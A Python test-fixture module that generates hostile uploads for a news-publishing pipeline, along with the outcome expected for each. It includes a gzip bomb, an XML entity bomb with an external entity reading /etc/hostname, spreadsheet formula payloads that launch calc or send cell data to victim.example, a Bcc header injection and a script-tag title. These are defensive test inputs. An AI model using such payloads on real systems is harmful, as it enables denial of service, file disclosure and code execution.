"""Large and malicious uploads, made by code, each with the ways in which it may end.

An end is `published` or the reason of a rejection. No upload may slow, crash or poison the pipeline, and none may reach
a subscriber as it is.
"""

import gzip
import random
import re
import struct
import zlib
from collections.abc import Callable, Iterator
from html import escape
from pathlib import Path
from typing import NamedTuple

PUBLISHED = "published"
PARAGRAPHS = (Path(__file__).parent / "hostile_article.txt").read_text(encoding="utf-8").strip().split("\n\n")
TITLE = "Harbour that counted one boat too many starts again"
WORDS = sorted(set(re.findall(r"[a-z]{3,}", " ".join(PARAGRAPHS))))


class HostilePage(NamedTuple):
    name: str
    body: bytes
    ends: frozenset[str]


def page(title: str = escape(TITLE), article: str = "", head: str = "") -> bytes:
    """A plain article page; `title` and `article` are markup."""
    article = article or "".join(f"<p>{paragraph}</p>\n" for paragraph in PARAGRAPHS)
    return (
        f'<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8"><title>{title}</title>{head}'
        f'<meta property="article:published_time" content="2024-04-06T09:30:00+00:00"></head>\n'
        f'<body><nav><a href="/">Home</a></nav><main><article><h1>{title}</h1>\n'
        f"{article}</article></main></body></html>\n"
    ).encode("utf-8", "surrogatepass")


def ends(*ways: str) -> frozenset[str]:
    return frozenset(ways)


def empty_file() -> HostilePage:
    return HostilePage("empty-file.html", b"", ends("empty"))


def folder_marker() -> HostilePage:
    """The empty object that the console writes when a person makes a folder."""
    return HostilePage("a-folder/", b"", ends("empty"))


def thirty_megabytes() -> HostilePage:
    filler = "".join(f"<p>{paragraph}</p>" for paragraph in PARAGRAPHS)
    return HostilePage(
        "thirty-megabytes.html", page(article=filler * (30_000_000 // len(filler) + 1)), ends("too-large")
    )


def image_named_html() -> HostilePage:
    return HostilePage("image-named.html", tiny_png(), ends("not-html"))


def tiny_png() -> bytes:
    """A valid grey picture whose comment pretends to be a page."""
    pixels = zlib.compress(b"".join(b"\0" + bytes(range(0, 240, 8)) for _ in range(30)))
    parts = (
        (b"IHDR", struct.pack(">IIBBBBB", 30, 30, 8, 0, 0, 0, 0)),
        (b"tEXt", b"Comment\0" + page()),
        (b"IDAT", pixels),
        (b"IEND", b""),
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(png_chunk(kind, data) for kind, data in parts)


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def gzipped_page() -> HostilePage:
    return HostilePage("gzip-encoded.html", gzip.compress(page(), mtime=0), ends(PUBLISHED))


def gzip_bomb() -> HostilePage:
    """About 100 KB that decompress to 100 MB."""
    return HostilePage(
        "gzip-bomb.html", gzip.compress(b"<p>tide " + b" " * 100_000_000, mtime=0), ends("too-large", "too-complex")
    )


def nested(depth: int, *allowed: str) -> HostilePage:
    """An article at the bottom of `depth` elements."""
    article = "<div>" * depth + "".join(f"<p>{paragraph}</p>" for paragraph in PARAGRAPHS) + "</div>" * depth
    return HostilePage(f"nested-{depth}.html", page(article=article), ends(*allowed))


def five_thousand_nested() -> HostilePage:
    return nested(5_000, PUBLISHED)


def hundred_thousand_nested() -> HostilePage:
    return nested(100_000, PUBLISHED, "too-complex")


def nul_bytes() -> HostilePage:
    """A page with NUL bytes between and inside words."""
    return HostilePage(
        "nul-bytes.html", page().replace(b"boats", b"bo\0ats").replace(b"<p>", b"\0\0<p>\0"), ends(PUBLISHED)
    )


def entity_bomb() -> HostilePage:
    """A document type with entities that a careless parser would expand to a billion words."""
    entities = "".join(f'<!ENTITY e{i} "{f"&e{i - 1};" * 10}">' for i in range(1, 10))
    entities += '<!ENTITY file SYSTEM "file:///etc/hostname">'
    doctype = f'<?xml version="1.0"?>\n<!DOCTYPE html [<!ENTITY e0 "tide ">{entities}]>\n'
    body = page(article=f"<p>&e9;</p><p>&file;</p>{''.join(f'<p>{paragraph}</p>' for paragraph in PARAGRAPHS)}")
    return HostilePage("entity-bomb.html", doctype.encode() + body.split(b"\n", 1)[1], ends(PUBLISHED, "not-html"))


def mail_header_title() -> HostilePage:
    """A title that tries to add a recipient to an e-mail, to ring a bell and to reverse the order of letters."""
    header = "Harbour&#13;&#10;Bcc: everyone@victim.example&#13;&#10;&#13;&#10;"
    title = f"{header}counts\u202e again\u2066 \u0007\u2028\u200bboats\u2069"
    return HostilePage("mail-header-title.html", page(title=title), ends(PUBLISHED))


FORMULAS = (
    '=HYPERLINK("https://victim.example/?"&A1,"Harbour counts again")',
    "+SUM(1,1)*cmd|' /C calc'!A0 and other harbour figures",
    "-2+3+cmd|' /C calc'!A0 boats counted",
    "@SUM(1+1)*2 boats seen at the inlet",
)


def formula_titles() -> list[HostilePage]:
    """Titles that a spreadsheet would run as formulas. They start with =, +, - and @."""
    return [
        HostilePage(f"formula-{at}.html", page(title=escape(formula)), ends(PUBLISHED))
        for at, formula in enumerate(FORMULAS)
    ]


def markup_title() -> HostilePage:
    return HostilePage(
        "markup-title.html",
        page(title=escape("<script>alert(1)</script> <b>Harbour</b> counts again")),
        ends(PUBLISHED),
    )


def sentences(seed: int, count: int) -> Iterator[str]:
    """Sentences of twelve words without a meaning. The same seed gives the same sentences."""
    choose = random.Random(seed)
    return (f"{' '.join(choose.choices(WORDS, k=12)).capitalize()}." for _ in range(count))


def beyond_the_item_limit() -> HostilePage:
    """An article of 120,000 words, which is more than a message of a queue or an item of a table can hold."""
    article = "".join(f"<p>{' '.join(group)}</p>\n" for group in zip(*[sentences(4, 10_000)] * 5, strict=True))
    return HostilePage("beyond-the-item-limit.html", page(article=article), ends(PUBLISHED))


def one_huge_paragraph() -> HostilePage:
    """A page of about 10 MB with one paragraph."""
    article = f"<p>{' '.join(sentences(5, 125_000))}</p>"
    return HostilePage("one-huge-paragraph.html", page(article=article), ends(PUBLISHED, "too-large"))


def huge_table() -> HostilePage:
    rows = "".join(f"<tr><td>Boat {i}</td><td>{i % 97}</td></tr>" for i in range(200_000))
    first = "".join(f"<p>{paragraph}</p>" for paragraph in PARAGRAPHS)
    return HostilePage("huge-table.html", page(article=f"{first}<table>{rows}</table>"), ends(PUBLISHED, "too-complex"))


def megabyte_attribute() -> HostilePage:
    head = f'<meta name="description" content="{"tide " * 200_000}">'
    return HostilePage("megabyte-attribute.html", page(head=head), ends(PUBLISHED))


def unclosed_everything() -> HostilePage:
    """A thousand elements that nothing closes, and an end in the middle of a tag."""
    opened = "".join(f"<b><i><font><table><tr><td><p>{PARAGRAPHS[i % len(PARAGRAPHS)]}" for i in range(200))
    return HostilePage(
        "unclosed-everything.html",
        page().split(b"</article>")[0] + opened.encode() + b"<a href='",
        ends(PUBLISHED, "too-complex"),
    )


MAKERS: tuple[Callable[[], HostilePage], ...] = (
    empty_file,
    folder_marker,
    image_named_html,
    gzipped_page,
    gzip_bomb,
    five_thousand_nested,
    hundred_thousand_nested,
    nul_bytes,
    entity_bomb,
    mail_header_title,
    markup_title,
    beyond_the_item_limit,
    one_huge_paragraph,
    huge_table,
    megabyte_attribute,
    unclosed_everything,
    thirty_megabytes,
)

HOSTILE_NAMES = (
    "with spaces and + plus.html",
    "hundred%25percent %2e%2e.html",
    "日本語/ニュース.html",
    "أخبار.html",
    "emoji-🗞️.html",
    "quote'\"<b>&amp;.html",
    "very/" * 40 + "deep.html",
)


def hostile_pages() -> list[HostilePage]:
    """Every hostile page, about 60 MB in all."""
    return [make() for make in MAKERS] + formula_titles()
